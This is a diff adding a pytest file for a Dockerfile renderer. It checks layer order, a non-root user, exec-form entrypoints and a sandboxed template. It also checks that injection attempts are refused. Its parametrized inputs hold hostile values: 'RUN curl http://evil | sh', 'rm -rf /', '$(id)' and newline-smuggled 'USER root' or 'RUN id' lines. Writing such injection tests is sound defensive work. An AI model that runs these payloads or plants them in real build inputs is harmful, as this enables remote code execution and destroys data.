@@ -1,0 +1,73 @@
+"""The renderer on its own: layer order, a non-root user, and no way for a manifest
+value to become a Dockerfile instruction."""
+
+import pytest
+from jinja2 import UndefinedError
+
+from builders.errors import BuildFailed
+from builders.render import _dockerfile_template, dockerfile_render
+
+SERVICE = {"kind": "service", "serve": {"handler": "handler:Echo", "port": 8080}}
+JOB = {"kind": "job", "job": {"command": ["python", "-m", "train"]}}
+
+
+def test_layers_go_from_rarely_to_often_changed():
+    dockerfile = dockerfile_render(manifest=SERVICE, base_image="hub-base:bookworm")
+    order = [
+        dockerfile.index("FROM hub-base:bookworm"),
+        dockerfile.index("COPY requirements.lock wheels/"),
+        dockerfile.index("RUN pip install --no-index --require-hashes"),
+        dockerfile.index("COPY harness/"),
+        dockerfile.index("COPY template/"),
+        dockerfile.index("USER 65532:65532"),
+    ]
+    assert order == sorted(order)
+    assert dockerfile.rstrip().endswith(
+        'ENTRYPOINT ["python", "-m", "harness", "--template-dir", "/opt/hub/template", "--host", "0.0.0.0", "--port", "8080"]'
+    )
+
+
+def test_a_job_runs_its_command_in_exec_form_without_a_shell():
+    dockerfile = dockerfile_render(manifest=JOB, base_image="hub-base:bookworm")
+    assert 'ENTRYPOINT ["python", "-m", "train"]' in dockerfile
+    assert "EXPOSE" not in dockerfile
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["python", "x\nRUN curl http://evil | sh"],
+        ["sh", "-c", "id; rm -rf /"],
+        ["python", '"], "evil'],
+        ["python", "$(id)"],
+    ],
+)
+def test_a_command_word_that_is_not_plain_never_reaches_the_dockerfile(command):
+    with pytest.raises(BuildFailed, match="refusing to put"):
+        dockerfile_render(manifest={"kind": "job", "job": {"command": command}}, base_image="hub-base:bookworm")
+
+
+@pytest.mark.parametrize("base_image", ["hub-base\nRUN id", "hub base", "HUB:Upper", "x;rm"])
+def test_a_base_image_that_is_not_a_plain_reference_is_refused(base_image):
+    with pytest.raises(BuildFailed, match="not a plain image reference"):
+        dockerfile_render(manifest=SERVICE, base_image=base_image)
+
+
+def test_the_handler_and_port_never_appear_as_text_from_the_manifest():
+    # The port is converted to an int; the handler is read by the harness at run time.
+    manifest = {"kind": "service", "serve": {"handler": "handler:Echo\nUSER root", "port": "8080\nUSER root"}}
+    with pytest.raises(ValueError):
+        dockerfile_render(manifest=manifest, base_image="hub-base:bookworm")
+    dockerfile = dockerfile_render(manifest={**SERVICE, "serve": {"handler": "h:E\nUSER root", "port": 8080}}, base_image="b")
+    assert "USER root" not in dockerfile and "h:E" not in dockerfile
+
+
+def test_strict_undefined_refuses_to_render_a_missing_value():
+    with pytest.raises(UndefinedError):
+        _dockerfile_template.render(base_image="b")
+
+
+def test_the_template_runs_sandboxed():
+    from jinja2.sandbox import SandboxedEnvironment
+
+    assert isinstance(_dockerfile_template.environment, SandboxedEnvironment)
